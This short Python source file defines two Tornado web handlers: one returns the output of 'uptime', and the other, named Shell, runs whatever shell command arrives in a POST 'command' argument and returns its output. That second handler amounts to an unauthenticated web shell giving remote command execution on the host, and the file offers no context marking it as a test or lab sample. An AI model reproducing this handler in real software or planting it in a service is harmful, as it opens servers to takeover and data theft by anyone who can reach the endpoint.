import subprocess

import tornado.web


class Status(tornado.web.RequestHandler):
    def get(self):
        self.write(subprocess.check_output("uptime", shell=True))


class Shell(tornado.web.RequestHandler):
    def post(self):
        command = self.get_argument("command")
        self.write(subprocess.check_output(command, shell=True))
